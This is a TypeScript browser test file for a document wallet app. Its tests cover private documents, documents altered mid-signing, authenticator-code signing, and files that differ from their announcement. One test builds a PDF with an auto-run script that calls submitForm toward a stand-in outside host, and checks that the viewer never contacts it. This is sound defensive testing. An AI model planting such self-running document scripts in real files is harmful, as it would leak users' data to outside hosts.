// Exceptional documents in the wallet: private, changed while being signed, different from the announcement, active.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { sealValue } from '@company-data/crypto'
import { pdfWithLines, toEnvelope } from '@company-data/testkit'
import { checkPage, inBrowser, openFakeWallet } from '@company-data/testkit/browser'
import { signingTexts } from '@company-data/web/documents/rules'
import { pdfTexts } from '@company-data/web/pdf/rules'
import type { Page } from 'playwright-core'
import { contentTexts } from '../src/documents/content/content-texts.ts'
import { actionTexts } from '../src/documents/decision/action-texts.ts'
import { documentsTexts } from '../src/documents/documents-texts.ts'
import { sessionTexts } from '../src/session/session-texts.ts'
import { shellTexts } from '../src/shell/shell-texts.ts'
import { fakeAccount } from './fakes/fake-account.ts'
import { COMPANY, createConnection, nextTime } from './fakes/fake-conversation.ts'
import { fakeDocuments, sealFile } from './fakes/fake-documents.ts'

/** Expected refusals: the browser logs each to its console. */
const expected = /status of 40[0349]/

const SECRET = 'Nobody-Else-May-Read-This'

/** A file that a trusting viewer would run when it is opened. */
const pdfWithScript = (script: string): Buffer => {
  const action = `/OpenAction << /S /JavaScript /JS (${script.replaceAll(/[\\()]/g, '\\$&')}) >>`
  const text = pdfWithLines(['A page']).toString('latin1')
  return Buffer.from(text.replace('/Type /Catalog', `/Type /Catalog ${action}`), 'latin1')
}

/** Finds the dialog that is a sheet, not the one of a toast. */
const getSheet = (page: Page, name: string) =>
  page.getByRole('dialog', { name }).and(page.locator(':not([aria-modal="false"])'))

/** The wallet of a person who is connected with a service that sends documents. */
const openDocuments = async () => {
  const { connection } = await createConnection()
  const documents = fakeDocuments(connection)
  const wallet = await openFakeWallet({ at: '/account', expected, replies: documents.replies })
  const seal = (bytes: Uint8Array) => sealFile(bytes, wallet.device.pair.publicKey)
  return { ...wallet, ...documents, seal }
}

test('D1-DOC-10, G-122: private documents stay closed, and changed ones are not signed', inBrowser, async () => {
  const [texts, signing, decisionTexts] = [documentsTexts.en, signingTexts.en, actionTexts.en]
  const { page, go, push, add, seal } = await openDocuments()
  const members = { name: 'Power of attorney', status: 'ready_to_sign', requires_signature: true, is_private: true }
  const contract = add({ ...members, ...(await seal(pdfWithLines([SECRET]))) })
  const change = (changes: object): void => {
    Object.assign(contract, changes, { updated_at: nextTime() })
    push('document', contract.id)
  }
  await go(`/documents/${contract.id}`)
  await page.getByText(contentTexts.en.privateText).waitFor()
  assert.equal(
    await page.getByRole('button', { name: texts.sign }).isEnabled(),
    false,
    'an unread document cannot be signed',
  )
  await page.getByRole('button', { name: contentTexts.en.show }).click()
  await page.getByText(SECRET).first().waitFor({ state: 'attached' })
  await page.getByRole('button', { name: texts.sign }).click()
  const sheet = getSheet(page, decisionTexts.signTitle('Power of attorney'))
  await sheet.getByLabel(signing.lastName).fill('Lovelace')
  change(await seal(pdfWithLines(['Something else entirely'])))
  await sheet.getByText(decisionTexts.changed).waitFor()
  await sheet.getByLabel(signing.code, { exact: true }).fill('123456')
  await sheet.getByRole('button', { name: signing.sign, exact: true }).click()
  await sheet.getByText(signing.readFirst).waitFor()
  await page.keyboard.press('Escape')
  await sheet.waitFor({ state: 'detached' })
  await page.getByText('Something else entirely').first().waitFor({ state: 'attached' })
  await page.getByRole('button', { name: pdfTexts.en.text }).click()
  await page.getByText('Something else entirely').waitFor()
  await checkPage(page, 'wallet-document-text')

  await page.getByRole('button', { name: texts.sign }).click()
  change({ status: 'ended' })
  await sheet.getByText(decisionTexts.over).waitFor()
  await page.keyboard.press('Escape')
  await page.getByText(texts.withdrawnText(COMPANY)).waitFor()
  assert.equal(await page.getByRole('button', { name: texts.sign }).count(), 0)
  await page.getByRole('button', { name: shellTexts.en.lock }).click()
  await page.getByRole('heading', { name: sessionTexts.en.unlockTitle }).waitFor()
  assert.equal((await page.content()).includes('Something else entirely'), false, 'a lock forgets opened data')
})

test('G-122, A-56: an authenticator code signs a document, and a wrong one does not', inBrowser, async () => {
  const [texts, signing] = [documentsTexts.en, signingTexts.en]
  const { page, go, fake, add, seal, state } = await openDocuments()
  fake.onAll(fakeAccount({ twofa_enabled: true }).replies)
  const members = { name: 'Contract', status: 'ready_to_sign', requires_signature: true }
  const { id, signatures } = add({ ...members, ...(await seal(pdfWithLines([SECRET]))) })
  await go(`/documents/${id}`)
  await page.getByText(SECRET).first().waitFor({ state: 'attached' })
  await page.getByRole('button', { name: texts.sign }).click()
  const sheet = getSheet(page, actionTexts.en.signTitle('Contract'))
  await sheet.getByLabel(signing.lastName).fill('Lovelace')
  await sheet.getByRole('radio', { name: signing.byApp }).click()
  assert.equal(await sheet.getByRole('button', { name: signing.sendCode }).count(), 0, 'nothing is mailed')
  await sheet.getByLabel(signing.code, { exact: true }).fill('111111')
  await sheet.getByRole('button', { name: signing.sign, exact: true }).click()
  await sheet.getByText(signing.codeWrong).waitFor()
  await checkPage(page, 'wallet-document-app-code')
  await sheet.getByLabel(signing.code, { exact: true }).fill(state.code)
  await sheet.getByRole('button', { name: signing.sign, exact: true }).click()
  await sheet.waitFor({ state: 'detached' })
  const [signature] = signatures as Array<Record<string, string>>
  assert.deepEqual([signature?.method, signature?.signer_last_name], ['twofa', 'Lovelace'])
})

test('a file that differs from its announcement is neither shown nor signed', inBrowser, async () => {
  const { page, go, fake, add, seal, device } = await openDocuments()
  const announced = { payload_kind: 'file', mime_type: 'application/pdf', plain_sha256: '0'.repeat(64) }
  const contract = { status: 'ready_to_sign', requires_signature: true, ...announced }
  const { publicKey } = device.pair
  const anotherFile = JSON.stringify(toEnvelope(pdfWithLines([SECRET])))
  add({ name: 'Another file', ...contract, file: await sealValue(anotherFile, publicKey) })
  add({ name: 'No file', ...contract, file: await sealValue('{"hello":"there"}', publicKey) })
  const script = pdfWithScript('app.alert(1); this.submitForm("https://elsewhere.example")')
  add({ name: 'Damaged', ...(await seal(Buffer.from('%PDF-1.7 and nothing that follows from it'))) })
  add({ name: 'With a script', ...(await seal(script)) })
  await go('/documents')
  const origins: string[] = []
  page.on('request', (request) => origins.push(new URL(request.url()).origin))
  for (const [name, words] of [
    ['Another file', contentTexts.en.mismatch],
    ['No file', contentTexts.en.noFile],
  ] as const) {
    await page.getByRole('link', { name }).click()
    await page.getByText(words).waitFor()
    assert.equal(await page.getByRole('button', { name: documentsTexts.en.sign }).isEnabled(), false)
    assert.equal((await page.content()).includes(SECRET), false)
    await go('/documents')
  }
  await page.getByRole('link', { name: 'Damaged' }).click()
  await page.getByText(pdfTexts.en.damaged).waitFor()
  await go('/documents')
  await page.getByRole('link', { name: 'With a script' }).click()
  await page.locator('canvas[data-state="drawn"]').waitFor()
  assert.deepEqual(
    origins.filter((origin) => origin !== fake.origin),
    [],
    'no other host is called',
  )
})
